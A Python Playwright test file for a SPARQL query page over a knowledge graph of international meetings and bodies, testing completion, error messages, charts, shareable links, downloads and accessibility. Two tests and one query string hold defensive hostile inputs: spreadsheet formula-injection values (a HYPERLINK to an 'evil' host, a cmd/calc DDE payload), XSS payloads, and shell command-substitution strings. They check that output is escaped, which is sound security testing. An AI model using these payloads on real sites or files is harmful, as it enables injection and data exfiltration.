"""The query page in a real Chromium: asked, answered, drawn, taken away; by mouse, by keyboard, and without script."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest

from tests.web.query_pages import ENDLESS, PAIRS, SMALL, query_page
from tests.web.serving import ROOT, running

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from graph.store import KnowledgeGraph
    from tests.web.query_pages import QueryPage
    from tests.web.serving import Server

pytestmark = pytest.mark.browser
BAD = ("status of 400", "status of 404")
"""What Chromium itself writes to its console when the server answers with a problem."""
AWKWARD = (
    'SELECT ?x WHERE { # it\'s "quoted" `back` $HOME \\ !\n'
    '  VALUES ?x { "it\'s" \'a "b" $HOME `id` \\\\ %s\' """three "" lines\n)-- )- $(id)""" }\n}'
)


@pytest.fixture
def opened(browser: Any, server: Server) -> Iterator[QueryPage]:
    with query_page(browser, server) as page:
        yield page


def test_the_query_that_stands_there_runs(opened: QueryPage) -> None:
    opened.run()
    expected = opened.server.query(opened.text).json()["results"]["bindings"]
    assert [row[2] for row in opened.rows()] == [row["meetings"]["value"] for row in expected]
    told = opened.page.inner_text("#answer--about")
    assert re.fullmatch(rf"{len(expected)} rows · .+ in the server, .+ in all · data version [0-9a-f]{{12}}", told)
    assert opened.page.inner_text("#limits") == "The server gives an answer up to 30 seconds, 200,000 rows and 64 MiB."
    opened.page.wait_for_function("document.querySelector('#said').textContent.startsWith('34 rows') || /rows/.test(document.querySelector('#said').textContent)")  # fmt: skip


def test_things_lead_to_their_pages(opened: QueryPage) -> None:
    opened.run(
        "SELECT ?body ?name ?other { VALUES ?body { body:unece-wp8 } ?body rdfs:label ?name BIND (<urn:x> AS ?other) }"
    )
    links = opened.page.eval_on_selector_all(
        "#answer td a", "all => all.map(a => [a.getAttribute('href'), a.textContent])"
    )
    named = ["/id/body/unece-wp8", "Working Party on Industry and Enterprise Development"]
    assert links == [named, named]
    assert opened.rows()[0][2] == "urn:x"
    opened.page.click("#answer td a")
    opened.page.wait_for_url("**/bodies/unece-wp8.html")


def test_a_question_is_found_filled_and_answered(opened: QueryPage) -> None:
    opened.page.fill("#filter", "charged with")
    assert opened.page.inner_text("#filter--found") == "2 questions"
    opened.choose("mandates-of-body")
    assert "VALUES ?body { body:apec-smewg }" in opened.text
    field = opened.page.get_by_role("combobox", name="The body")
    field.fill("wp.8")
    opened.page.wait_for_selector("[role=option]")
    field.press("Enter")
    opened.page.wait_for_function("document.querySelector('#text').value.includes('{ body:unece-wp8 }')")
    assert field.input_value() == "Working Party on Industry and Enterprise Development"
    opened.run()
    assert len(opened.rows()) > 3
    assert "The body: Working Party" in opened.page.inner_text("#answer--body .values")


def test_a_name_that_nobody_bears_is_told_at_its_field(browser: Any, server: Server) -> None:
    with query_page(browser, server, expected=BAD) as opened:
        opened.choose("mandates-of-body")
        field = opened.page.get_by_role("combobox", name="The body")
        field.fill("Ministry of Silly Walks")
        opened.page.click("#run")
        opened.page.wait_for_selector(".parameter .fault:not(:empty)")
        assert "Ministry of Silly Walks" in opened.page.inner_text(".parameter .fault")
        assert field.get_attribute("aria-invalid") == "true"
        assert opened.page.is_hidden("#answer")


def test_text_that_is_edited_becomes_one_s_own_and_the_way_back_is_kept(opened: QueryPage) -> None:
    opened.choose("mandates-of-body")
    opened.page.locator("#text").press("Control+End")
    opened.page.keyboard.type("LIMIT 2")
    assert opened.page.inner_text("#ask--title") == "Your own query"
    opened.run()
    assert len(opened.rows()) == 2
    opened.page.click("#ask--why a")
    opened.page.wait_for_selector("#parameters:not([hidden])")
    assert "LIMIT 2" not in opened.text


def test_an_empty_answer_says_what_was_asked_and_what_was_read(opened: QueryPage) -> None:
    opened.choose("meetings-in-year")
    opened.page.fill("#parameter-year", "1850")
    opened.run()
    words = opened.page.inner_text("#answer")
    told = opened.server.ask("/query/questions.json").json()
    question = next(q for group in told["groups"] for q in group["questions"] if q["name"] == "meetings-in-year")
    assert question["summary"] in words
    assert question["empty"] in words
    assert "1850" in opened.page.inner_text(".values")


def test_completion_by_keyboard_alone(opened: QueryPage) -> None:
    page = opened.page
    page.fill("#text", "")
    page.focus("#text")
    page.keyboard.type("SELECT ?meeting WHERE {\n?meeting a smepb:Meet")
    page.wait_for_selector("#completion [role=option][aria-selected=true]")
    assert page.get_attribute("#text", "aria-activedescendant") == "completion-0"
    about = page.inner_text("#completion-0 .about")
    assert re.match(r"meeting · .+\. · used \d+ ×$", about)
    page.keyboard.press("Enter")
    assert opened.text.endswith("a smepb:Meeting")
    page.keyboard.type(" ; smepb:body working party on ind")
    page.wait_for_selector("#completion .thing")
    page.keyboard.press("Tab")
    assert opened.text.endswith("smepb:body body:unece-wp8")
    page.keyboard.type(" }\nORDER BY ?m")
    page.wait_for_selector("#completion .variable")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Escape")
    assert page.is_hidden("#completion")
    page.keyboard.type("eeting ")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector("#answer tbody tr")
    page.keyboard.press("Control+z")
    assert opened.text.endswith("ORDER BY ?meeting") or "ORDER BY" in opened.text


def test_control_space_offers_what_fits_the_place(opened: QueryPage) -> None:
    page = opened.page
    for text, kind in (("SELECT * { GRAPH ", "graph"), ("SELECT * { ?x a ", "class"), ("SELECT * { ?x ", "property"), ("SELECT * { VALUES ?x { ", "thing")):  # fmt: skip
        page.fill("#text", text)
        page.focus("#text")
        page.keyboard.press("Control+End")
        page.keyboard.press("Control+ ")
        page.wait_for_selector("#completion [role=option]")
        assert page.get_attribute("#completion-0", "class") == kind, text
        page.keyboard.press("Escape")


def test_nothing_is_offered_in_strings_and_comments(opened: QueryPage) -> None:
    for text in ('SELECT * { ?x rdfs:label "meet', "# meet"):
        opened.page.fill("#text", text)
        opened.page.focus("#text")
        opened.page.keyboard.press("Control+End")
        opened.page.keyboard.type("ing")
        opened.page.keyboard.press("Control+ ")
        assert opened.page.is_hidden("#completion")


def test_tab_indents_and_after_escape_leaves(opened: QueryPage) -> None:
    opened.page.fill("#text", "")
    opened.page.focus("#text")
    opened.page.keyboard.press("Tab")
    assert opened.text == "  "
    opened.page.keyboard.press("Escape")
    opened.page.keyboard.press("Tab")
    assert opened.page.evaluate("document.activeElement.id") == "run"
    opened.page.keyboard.press("Shift+Tab")
    opened.page.keyboard.press("Shift+Tab")
    assert opened.page.evaluate("document.activeElement.id") != "text"


def test_a_fault_is_marked_where_it_is(browser: Any, server: Server) -> None:
    with query_page(browser, server, expected=BAD) as opened:
        opened.page.fill("#text", "SELECT ?x WHERE {\n  ?x a smepb:Meeting ;\n  FILTER(\n}")
        opened.page.click("#run")
        opened.page.wait_for_selector("#fault:not(:empty)")
        assert opened.page.inner_text("#fault").startswith("Line 4, column ")
        assert opened.page.inner_text(".drawn .faulty") == "}"
        assert opened.page.get_attribute("#text", "aria-invalid") == "true"
        assert opened.page.evaluate("document.activeElement.id") == "text"
        opened.page.keyboard.type(" ")
        assert opened.page.locator(".faulty").count() == 0


def test_the_drawn_text_lies_exactly_behind_the_field(opened: QueryPage) -> None:
    """Else the caret would not stand where the text is."""
    for text in ("SELECT * { ?s ?p ?o }\n" * 60, "x" * 900 + "\n\n  " + "word " * 200, "a\t\u00e9\u6f22 ?x\n"):
        opened.page.fill("#text", text)
        sizes = opened.page.evaluate(
            "['#text', '.drawn'].map(one => { const box = document.querySelector(one); return [box.scrollHeight, box.clientWidth]; })"
        )
        assert sizes[0] == sizes[1]
        assert (
            opened.page.evaluate("document.querySelector('.drawn').innerText.replaceAll('\u200b', '').trim()").split()
            == text.split()
        )


def test_cancel_frees_the_worker(browser: Any, kg: KnowledgeGraph) -> None:
    with running(kg.paths.store, "--workers", "1", "--timeout", "300") as server:
        with query_page(browser, server) as opened:
            before = set(server.workers())
            opened.page.fill("#text", ENDLESS)
            opened.page.click("#run")
            opened.page.wait_for_function("/Running for \\d/.test(document.querySelector('#clock').textContent)")
            opened.page.click("#cancel")
            assert "Cancelled" in opened.page.inner_text("#clock")
            assert server.works()
            assert set(server.workers()) != before
            opened.run("SELECT ?x { VALUES ?x { 1 } }")
            assert opened.rows() == [["1"]]


def test_a_question_that_takes_too_long_is_told_in_words(browser: Any, kg: KnowledgeGraph) -> None:
    with (
        running(kg.paths.store, "--timeout", "0.5") as server,
        query_page(browser, server, expected=("status of 504",)) as opened,
    ):
        opened.run(ENDLESS)
        words = opened.page.inner_text(".problem")
        assert "did not end in time" in words
        assert "add a LIMIT" in words


def test_a_busy_server_says_when_to_try_again(browser: Any, server: Server) -> None:
    problem = {
        "type": "/problems#too-many-requests",
        "title": "Too many requests are waiting",
        "status": 429,
        "detail": "x",
    }
    with query_page(browser, server, expected=("status of 429",)) as opened:
        opened.page.route(
            "**/sparql",
            lambda route: route.fulfill(
                status=429,
                headers={"Content-Type": "application/problem+json", "Retry-After": "2"},
                body=json.dumps(problem),
            ),
        )
        opened.run()
        assert "The server asks to wait 2 seconds." in opened.page.inner_text(".problem")
        assert opened.page.is_disabled(".again button")
        opened.page.unroute("**/sparql")
        opened.page.click(".again button:enabled")
        opened.page.wait_for_selector("#answer tbody tr")


def test_a_server_that_is_gone_is_told_in_words(browser: Any, kg: KnowledgeGraph) -> None:
    with running(kg.paths.store) as server, query_page(browser, server, expected=("ERR_CONNECTION",)) as opened:
        server.process.kill()
        server.process.wait(20)
        opened.run()
        assert "The server does not answer" in opened.page.inner_text(".problem")


def test_rows_are_sorted_by_value(opened: QueryPage) -> None:
    opened.run(SMALL)
    column = opened.page.locator("thead button[data-column=meetings]")
    column.click()
    assert [row[1] for row in opened.rows()] == ["2", "3", "11"]
    opened.page.keyboard.press("Enter")
    assert [row[1] for row in opened.rows()] == ["11", "3", "2"]
    assert opened.page.get_attribute("th[aria-sort]", "aria-sort") == "descending"
    opened.page.keyboard.press("Enter")
    assert [row[1] for row in opened.rows()] == ["3", "11", "2"]


def test_long_answers_are_shown_in_parts(opened: QueryPage) -> None:
    opened.run("SELECT ?s ?p { ?s ?p ?o } ORDER BY ?s ?p LIMIT 1700")
    assert len(opened.rows()) == 500
    assert "500 of 1,700 rows are shown" in opened.page.inner_text(".more")
    opened.page.click(".more button")
    assert len(opened.rows()) == 1500
    opened.page.click(".more button")
    assert len(opened.rows()) == 1700


def test_passages_stand_beside_each_row_and_lead_to_them(opened: QueryPage) -> None:
    query = 'SELECT ?d { ?d a smepb:Decision ; smepb:citation/smepb:citedDocument doc:unece-wp8-session-2 } ORDER BY ?d LIMIT 4'  # fmt: skip
    opened.run(query, evidence=True)
    links = opened.page.eval_on_selector_all("td.source a.para", "all => all.map(a => a.getAttribute('href'))")
    assert len(links) >= 4
    for link in links:
        page, _, anchor = link.partition("#")
        assert f'id="{anchor}"' in opened.server.ask(page).text
    assert "evidence=1" in opened.page.get_attribute("[data-format=csv]", "href")


def test_yes_or_no_and_graphs_are_told_as_what_they_are(opened: QueryPage) -> None:
    opened.run("ASK { ?x a smepb:Meeting }")
    assert opened.page.inner_text(".verdict") == "Yes"
    opened.run("ASK { ?x a smepb:Nothing }")
    assert opened.page.inner_text(".verdict") == "No"
    assert "no proof" in opened.page.inner_text(".truth")
    opened.run("CONSTRUCT { ?x rdfs:label ?l } WHERE { VALUES ?x { body:unece-wp8 } ?x rdfs:label ?l }")
    assert "body:unece-wp8 rdfs:label" in opened.page.inner_text(".turtle")
    formats = opened.page.eval_on_selector_all("[data-format]", "all => all.map(one => one.dataset.format)")
    assert formats == ["ttl", "nt", "rdf", "jsonld"]


def test_a_chart_of_numbers_and_a_timeline_of_dates(opened: QueryPage) -> None:
    opened.run(SMALL)
    opened.page.click("[data-drawing=chart]")
    chart = opened.page.locator("#drawing-chart svg")
    assert opened.page.inner_text("#drawing-chart figcaption") == "Meetings by name"
    assert "3 bars; largest: two, 11; smallest: ten, 2" in chart.get_attribute("aria-label")
    widths = chart.locator("rect").evaluate_all("all => all.map(one => one.getBBox().width)")
    assert widths[1] == pytest.approx(widths[0] * 11 / 3)
    opened.page.select_option("#chart-order", "size")
    assert chart.locator("g title").all_text_contents() == ["two: 11", "one: 3", "ten: 2"]
    opened.page.click("[data-drawing=timeline]")
    line = opened.page.locator("#drawing-timeline svg")
    assert line.locator("g title").all_text_contents() == ["2000-05-04: ten", "2001-03: one", "2002: two"]
    lengths = line.locator("rect").evaluate_all("all => all.map(one => one.getBBox().width)")
    assert lengths[2] == pytest.approx(lengths[1] * 365 / 31, rel=0.01)
    assert len(opened.rows()) == 3


def test_a_map_is_offered_only_where_one_can_be_made(opened: QueryPage) -> None:
    opened.run(SMALL)
    assert opened.page.locator("[data-drawing=map]").count() == 0
    opened.run(PAIRS)
    opened.page.click("[data-drawing=map]")
    frame = opened.page.frame_locator(".map-frame")
    frame.locator("#map canvas").wait_for()
    assert "12 of 12 links shown" in frame.locator("body").inner_text()
    address = opened.page.get_attribute("#drawing-map a", "href")
    own = opened.page.context.new_page()
    own.goto(opened.server.address.rstrip("/") + address)
    own.wait_for_selector("#map canvas")


def test_a_link_keeps_question_values_and_answer(browser: Any, server: Server) -> None:
    with query_page(browser, server) as first:
        first.choose("mandates-of-body")
        first.page.get_by_role("combobox", name="The body").fill("WP.8")
        first.page.keyboard.press("Enter")
        first.run(evidence=True)
        link, rows = first.link(), first.rows()
    with query_page(browser, server, after=link.removeprefix(f"{server.address}query")) as second:
        second.page.wait_for_selector("#changes")
        assert second.rows() == rows
        words = second.page.inner_text("#changes")
        assert "same version" in words
        assert "The answer is the same." in words
        assert second.page.is_checked("#evidence")
        assert second.page.input_value("#parameter-body") == "Working Party on Industry and Enterprise Development"


@pytest.mark.parametrize("question", ["mandates-of-body", ""])
def test_a_link_of_another_version_says_what_changed(browser: Any, server: Server, question: str) -> None:
    with query_page(browser, server) as first:
        if question:
            first.choose(question)
        first.run()
        count, link = len(first.rows()), first.link().removeprefix(f"{server.address}query")
    other = re.sub(r"version=\w+", "version=0123456789abcdef", link)
    with query_page(browser, server, after=other) as same:
        same.page.wait_for_selector("#changes.calm")
        words = same.page.inner_text("#changes")
        assert "another version" in words
        assert "Nothing in this answer has changed." in words
    forged = re.sub(r"rows=.{8}", "rows=AAAA", other)
    with query_page(browser, server, after=forged) as changed:
        changed.page.wait_for_selector("#changes")
        assert f"{count - 2} rows are the same, 2 are new (marked “new” in the table), 1 is gone." in changed.page.inner_text("#changes")  # fmt: skip
        assert changed.page.locator("tr.fresh").count() == 2
    damaged = re.sub(r"rows=.{3}", "rows=", other)
    with query_page(browser, server, after=damaged) as broken:
        broken.page.wait_for_selector("#changes")
        assert "The link is damaged." in broken.page.inner_text("#changes")


def test_a_link_to_a_long_answer_compares_it_as_a_whole(browser: Any, server: Server) -> None:
    with query_page(browser, server) as first:
        first.run("SELECT ?s ?p { ?s ?p ?o } LIMIT 450")
        link = first.link().removeprefix(f"{server.address}query")
    assert len(link) < 400
    with query_page(browser, server, after=link) as second:
        second.page.wait_for_selector("#changes")
        assert "The answer is the same." in second.page.inner_text("#changes")
    with query_page(browser, server, after=re.sub(r"whole=.", "whole=_", link)) as third:
        third.page.wait_for_selector("#changes")
        assert "it had 450 rows, and has 450 rows now" in third.page.inner_text("#changes")


def test_downloads_hold_the_answer_under_a_sensible_name(opened: QueryPage) -> None:
    opened.choose("meetings-by-year")
    opened.run()
    for form, name in (("csv", "smegraph-meetings-by-year.csv"), ("xlsx", "smegraph-meetings-by-year.xlsx"), ("json", "smegraph-meetings-by-year.json")):  # fmt: skip
        with opened.page.expect_download() as downloading:
            opened.page.click(f"[data-format={form}]")
        assert downloading.value.suggested_filename == name
        content = downloading.value.path().read_bytes()
        assert content == opened.server.query(opened.text, format=form).body
    rows = list(csv.reader(io.StringIO(opened.server.query(opened.text, format="csv").text)))
    assert rows[1:] == opened.rows()


def test_no_cell_of_a_spreadsheet_is_a_formula(server: Server, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "plain"]
    query = f"SELECT ?x {{ VALUES ?x {{ {' '.join(json.dumps(text) for text in hostile)} }} }}"
    book = tmp_path / "answer.xlsx"
    book.write_bytes(server.query(query, format="xlsx").body)
    cells = [row[0] for row in openpyxl.load_workbook(book).active.iter_rows(min_row=2)]
    assert [(cell.data_type, cell.value) for cell in cells] == [("s", text) for text in hostile]
    sheet = list(csv.reader(io.StringIO(server.query(query, format="sheet").body.decode("utf-8-sig"))))
    assert [row[0] for row in sheet[1:]] == [*(f"'{text}" for text in hostile[:-1]), "plain"]


def test_hostile_values_are_text_in_every_view(browser: Any, server: Server) -> None:
    attack = '"</script><script>alert(1)</script>" "<img src=x onerror=alert(2)>" "{{7*7}}" "javascript:alert(3)"'
    query = f"""SELECT ?name ?link ?n ?day {{ VALUES ?name {{ {attack} }}
  BIND (IRI("javascript:alert(4)") AS ?link) BIND (3 AS ?n) BIND ("2001"^^xsd:gYear AS ?day) }}"""
    with query_page(browser, server) as opened:
        opened.run(query)
        assert [row[0] for row in opened.rows()][:2] == [
            "</script><script>alert(1)</script>",
            "<img src=x onerror=alert(2)>",
        ]
        opened.page.click("[data-drawing=chart]")
        opened.page.click("[data-drawing=timeline]")
        opened.page.evaluate("document.querySelector('.programs').open = true")
        assert opened.page.locator("#answer a[href^='javascript']").count() == 0
        assert opened.page.locator("#answer img, #answer script").count() == 0
        link = opened.link().removeprefix(f"{server.address}query")
    with query_page(browser, server, after=link) as again:
        again.page.wait_for_selector("#changes")
        assert len(again.rows()) == 4


def run_program(command: list[str], **variables: str) -> str:
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=60, check=False, env={**os.environ, **variables}
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_the_programs_give_the_same_answer_whatever_the_query_holds(opened: QueryPage) -> None:
    opened.run(AWKWARD)
    expected = [row["x"]["value"] for row in opened.server.query(AWKWARD).json()["results"]["bindings"]]
    assert len(expected) == 3
    curl = run_program(["bash", "-c", opened.snippet("curl")])
    assert [row[0] for row in csv.reader(io.StringIO(curl))][1:] == expected
    for language in ("python", "urllib"):
        printed = run_program([sys.executable, "-c", opened.snippet(language)], PYTHONPATH=str(ROOT))
        assert printed == "".join(f"{ {'x': value} }\n" for value in expected), language
    raw = re.search(r'r"(-*)\((.*)\)\1"', opened.snippet("r"), re.DOTALL)
    assert raw is not None
    assert raw[2] == AWKWARD
    assert f'){raw[1]}"' not in AWKWARD


def test_the_programs_know_passages_graphs_and_yes_or_no(opened: QueryPage) -> None:
    opened.run("SELECT ?m { ?m a smepb:Mandate } ORDER BY ?m LIMIT 2", evidence=True)
    for language in ("python", "urllib"):
        assert "paragraph" in run_program([sys.executable, "-c", opened.snippet(language)], PYTHONPATH=str(ROOT))
    opened.run("ASK {}")
    for language in ("python", "urllib"):
        assert run_program([sys.executable, "-c", opened.snippet(language)], PYTHONPATH=str(ROOT)) == "True\n"
    opened.run("CONSTRUCT WHERE { body:unece rdfs:label ?l }")
    for language in ("python", "urllib", "curl"):
        command = ["bash", "-c"] if language == "curl" else [sys.executable, "-c"]
        assert "United Nations Economic" in run_program([*command, opened.snippet(language)], PYTHONPATH=str(ROOT))


def test_without_script_questions_and_queries_are_answered(browser: Any, server: Server) -> None:
    with query_page(browser, server, java_script_enabled=False) as opened:
        page = opened.page
        page.click("summary:has-text('Mandates')")
        page.click("[data-question=mandates-of-body]")
        assert (
            page.locator("#ask--title").inner_text()
            == "What was a body charged with, when, for how long, and by which document?"
        )
        page.select_option("select[name=format]", "csv")
        with page.expect_download() as downloading:
            page.click("#run")
        rows = list(csv.reader(downloading.value.path().open(encoding="utf-8", newline="")))
        assert rows[0][0] == "charge"
        assert len(rows) > 5


def test_an_address_with_a_question_and_values_opens_it(browser: Any, server: Server) -> None:
    after = f"?{urlencode({'question': 'mandates-of-body', 'body': 'UNECE'})}"
    with query_page(browser, server, after=after) as opened:
        opened.page.wait_for_function("document.querySelector('#text').value.includes('{ body:unece }')")
        assert opened.page.input_value("#parameter-body") == "United Nations Economic Commission for Europe"
        assert opened.page.is_hidden("#answer")


STATES = {
    "start": lambda opened: None,
    "question": lambda opened: (opened.choose("attendance-of-members"), opened.page.get_by_role("combobox").first.press("ArrowDown"), opened.page.wait_for_selector("[role=option]")),
    "answer": lambda opened: (opened.run(SMALL), opened.page.click("[data-drawing=chart]"), opened.page.click("[data-drawing=timeline]"), opened.link(), opened.snippet("r")),
    "passages": lambda opened: opened.run("SELECT ?m ?s { ?m a smepb:Mandate ; smepb:summary ?s } LIMIT 5", evidence=True),
    "fault": lambda opened: (opened.page.fill("#text", "SELECT {"), opened.page.click("#run"), opened.page.wait_for_selector(".faulty")),
    "empty": lambda opened: opened.run("SELECT ?x { ?x a smepb:Nothing }"),
    "offers": lambda opened: (opened.page.fill("#text", "SELECT * { ?x a smepb:"), opened.page.locator("#text").press("Control+ "), opened.page.wait_for_selector("#completion [role=option]")),
}  # fmt: skip


@pytest.mark.parametrize(
    ("width", "scheme"), [(360, "dark"), (360, "light"), (700, "dark"), (1400, "light"), (1400, "dark")]
)
def test_the_page_has_no_fault_of_accessibility_and_fits_its_window(
    browser: Any, server: Server, axe: str, width: int, scheme: str
) -> None:
    """As axe-core tests WCAG 2.2 A and AA and best practices; 700 pixels are 1,400 at 200 %."""
    size = {"width": width, "height": 800}
    for state, reach in STATES.items():
        with query_page(
            browser, server, expected=BAD, viewport=size, color_scheme=scheme, bypass_csp=True, reduced_motion="reduce"
        ) as opened:
            reach(opened)
            assert opened.page.evaluate("document.documentElement.scrollWidth") <= width, state
            opened.page.evaluate(axe)
            result = opened.page.evaluate("axe.run(document, { resultTypes: ['violations'] })")
            faults = [(fault["id"], node["html"][:160]) for fault in result["violations"] for node in fault["nodes"]]
            assert faults == [], (state, width, scheme)
